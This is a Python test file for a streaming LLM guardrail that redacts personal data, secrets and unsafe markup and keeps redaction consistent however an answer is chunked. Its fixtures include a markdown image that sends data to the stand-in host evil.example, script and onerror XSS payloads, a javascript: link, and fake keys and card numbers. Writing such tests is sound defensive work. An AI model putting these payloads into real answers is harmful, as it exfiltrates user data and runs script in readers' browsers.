"""Answers in parts through guardrails: the same answer however it is cut, and never half of a secret."""

from __future__ import annotations

from itertools import combinations, pairwise
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from noria.llm.guardrails import Context, Grounded, GuardedStream, Guardrails, Length, PersonalData, Restorer, SafeMarkup, Secrets, Toxicity
from noria.llm.guardrails.stream import LONGEST, MOST

KEY = "ghp_" + "a1B2" * 9
PEM = "-----BEGIN PRIVATE KEY-----\n" + "MIIEvQIBADANBgkqh\nkiG9w0BAQEFAASCBKc\n" * 3 + "-----END PRIVATE KEY-----"
PLANTED = (
    "anna.berg@example.org",
    "+49 151 23456789",
    "DE89 3704 0044 0532 0130 00",
    "4111 1111 1111 1111",
    KEY,
    "MIIEvQIBADANBgkqh",
    "kiG9w0BAQEFAASCBKc",
    "evil.example",
    "alert(1)",
    "12.03.1985",
)
PIECES = (
    "Write to anna.berg@example.org today. ",
    "Call me at +49 151 23456789 please.\n",
    "The account is DE89 3704 0044 0532 0130 00. ",
    "Card: 4111 1111 1111 1111\n",
    f"token {KEY} is new. ",
    f"\n{PEM}\n",
    "See ![chart](https://evil.example/p?q=all the data) there. ",
    "<script>\nalert(1)\n</script> and ",
    "<img src=x\n onerror=alert(1)> ",
    "[click](javascript:alert(1)) ",
    "She was born on 12.03.1985 in Bonn. ",
    "A plain sentence of words, nothing else. ",
    "x < y and [1] of [",
    "ok",
    "\n\n",
)
RULES = Guardrails((PersonalData(), Secrets(), SafeMarkup()))


def streamed(text: str, places: list[int], rules: Guardrails = RULES, **settings_: Any) -> tuple[str, GuardedStream]:
    stream = GuardedStream(rules, **settings_)
    cuts = sorted({0, len(text), *(place for place in places if place <= len(text))})
    return "".join(stream.add(text[at:end]) for at, end in pairwise(cuts)) + stream.end(), stream


@given(st.lists(st.sampled_from(PIECES), min_size=1, max_size=7), st.lists(st.integers(0, 700), max_size=25))
@settings(max_examples=40, deadline=None)
def test_however_it_is_cut_it_is_the_same_answer_without_what_is_redacted(pieces: list[str], places: list[int]) -> None:
    text = "".join(pieces)
    sent, _ = streamed(text, places)
    assert sent == streamed(text, [])[0] == streamed(text, list(range(len(text))))[0]
    assert not [planted for planted in PLANTED if planted in sent]


def test_all_cuts_in_three_of_a_short_answer_give_the_same() -> None:
    text = "Hi. Mail a.b@x.org! ![i](//e.io/?q) ok"
    whole = streamed(text, [])[0]
    assert whole == "Hi. Mail [EMAIL_1]! [IMAGE_1] ok"
    assert all(streamed(text, list(cuts))[0] == whole for cuts in combinations(range(1, len(text)), 2))


@pytest.mark.parametrize("size", [10, 200, 390, 1200, 3000])
@pytest.mark.parametrize("tag", ["<img ", "<b alt='> One. Two '", '<img alt="> One. Two '])
def test_no_element_is_put_together_from_parts_however_long_it_is(size: int, tag: str) -> None:
    closing = '"' if '"' in tag else ""
    text = f"A line.\n{tag}{'word ' * size}{closing} onerror=alert(1)> The end."
    sent = streamed(text, list(range(0, len(text), 7)))[0]
    assert sent == streamed(text, [])[0]
    assert "<" not in sent or "onerror" not in sent


def test_what_was_decided_upon_is_sent_before_the_end() -> None:
    stream = GuardedStream(RULES)
    assert stream.add("This sentence is complete. And") == "This sentence is complete. "
    assert stream.add(" this is not yet") == ""
    assert stream.end() == "And this is not yet"


def test_values_of_the_question_are_put_back_even_where_a_placeholder_comes_in_parts() -> None:
    restorer = Restorer()
    RULES.check("I am anna.berg@example.org", "question", None, restorer)
    text = "Dear [EMAIL_1], your friend bob@x.org wrote. [EMAIL_7] did not."
    sent = {streamed(text, [place], restorer=restorer)[0] for place in range(len(text))}
    assert sent == {"Dear anna.berg@example.org, your friend [EMAIL_2] wrote. [EMAIL_7] did not."}
    assert "[EMAIL_1]" in streamed(text, [], restorer=restorer, restored=False)[0]


def test_a_rule_that_blocks_stops_the_answer() -> None:
    log = list[dict[str, Any]]()
    rules = Guardrails((Toxicity(), PersonalData()), log.append)
    text = "This is a fine day. You are a pathetic idiot. And more of it comes here.\n"
    sent, stream = streamed(text, list(range(len(text))), rules)
    assert sent == "This is a fine day. "
    assert stream.blocked
    assert (log[0]["action"], log[0]["decisions"][0]["reason"], len(log)) == ("block", "insult", 1)
    assert log[0]["decisions"][0]["found"][0]["at"] == text.index("You are")


def test_places_in_the_log_are_those_of_the_whole_answer() -> None:
    text = "A first line goes here.\nMail a.b@x.org now.\nThen mail c.d@x.org too."
    _, stream = streamed(text, list(range(len(text))))
    found = stream.checked.decisions[0].found
    assert [text[each.at : each.end] for each in found] == ["a.b@x.org", "c.d@x.org"]


def test_a_rule_that_needs_the_whole_holds_all_back_unless_it_only_flags() -> None:
    text = "One line is here.\nAnother line is there.\n"
    for action, first in (("block", ""), ("flag", "One line is here.\n")):
        stream = GuardedStream(Guardrails((Length(most=20, places=("answer",), action=action),)))  # type: ignore[arg-type]
        assert stream.add(text) == first
        rest = stream.end()
        assert (first + rest, stream.action) == ("" if action == "block" else text, action)


def test_a_sentence_without_support_stops_a_streamed_answer() -> None:
    chunks = ["The office opens at nine. A permit costs forty euros a year."]
    rules = Guardrails((Grounded(),))
    text = "A permit costs forty euros a year. The office opens at eleven. It is nice.\n"
    sent, stream = streamed(text, list(range(0, len(text), 3)), rules, context=Context(chunks=chunks))
    assert sent == "A permit costs forty euros a year. "
    assert stream.checked.decisions[0].reason == "unsupported"


@pytest.mark.parametrize(
    "text", ["a" * (LONGEST + 900), "word " * LONGEST, "<b " + "word " * MOST, "[" + "x" * (LONGEST + 900), PEM[:40] + "line\n" * 1700]
)
def test_nothing_is_held_back_for_ever(text: str) -> None:
    stream = GuardedStream(RULES)
    parts = [stream.add(text[at : at + 500]) for at in range(0, len(text), 500)]
    assert len("".join(parts)) > 0
    sent = "".join(parts) + stream.end()
    assert sent == streamed(text, [])[0]
    assert "BEGIN" in text or sent == text.replace("<b", "[MARKUP_1]")
